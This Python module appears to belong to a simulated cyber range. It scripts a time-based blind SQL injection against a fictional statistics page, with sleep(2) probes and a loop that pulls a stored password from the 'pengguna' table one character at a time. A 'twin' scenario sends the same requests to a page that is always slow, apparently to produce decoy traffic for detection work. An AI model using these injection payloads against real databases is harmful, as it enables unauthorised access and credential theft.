"""The database is made to wait when a guess is right; twin: the same against a page that is always slow."""

from __future__ import annotations

from random import Random

from range.estate.addresses import abroad
from range.scenarios.acts import intruder
from range.scenarios.acts import twin as twin_of
from range.visits.agents import PYTHON
from range.visits.browser import Browser
from range.visits.steps import Pause, Visit
from range.visits.world import World

NAME = "sqli_time"
SITES: tuple[str, ...] = ("kel-dahlia",)
TWIN_SITES: tuple[str, ...] = ("kel-teratai",)


def intrusion(world: World) -> None:
    """Forty guesses, of which about a third make the page wait two seconds."""
    _, me, dice = intruder(world, NAME, SITES[0], "executed", accepts=("exfiltrated",))
    me.agent = PYTHON
    world.go(SITES[0], world.at(20, 1.9), _wait(me, dice, "delay"))


def _wait(me: Browser, dice: Random, role: str) -> Visit:
    for text in ("1", "1 AND sleep(0)", "1 AND sleep(2)", "1 AND sleep(0)", "1 AND sleep(2)"):
        yield from me.get(
            "/statistik.php?wilayah=" + text.replace(" ", "%20"), role=role if "sleep(2)" in text else ""
        )
        yield Pause(4)
    for place in range(1, 5):
        for digit in dice.sample("0123456789abcdef", k=16)[:9]:
            letter = f"substr((SELECT sandi FROM pengguna LIMIT 1),{place},1)"
            text = f"1 AND (CASE WHEN {letter}>'{digit}' THEN sleep(2) ELSE 0 END)"
            yield from me.get(
                "/statistik.php?wilayah=" + text.replace(" ", "%20").replace("'", "%27"), role=role
            )
            yield Pause(1)


def twin(world: World) -> None:
    """Every answer takes a quarter to three quarters of a second, with or without a payload."""
    actor, dice = twin_of(world, NAME, TWIN_SITES[0])
    me = world.browser(actor, abroad(dice), PYTHON)
    world.go(TWIN_SITES[0], world.at(20, 3.3), _wait(me, dice, ""))
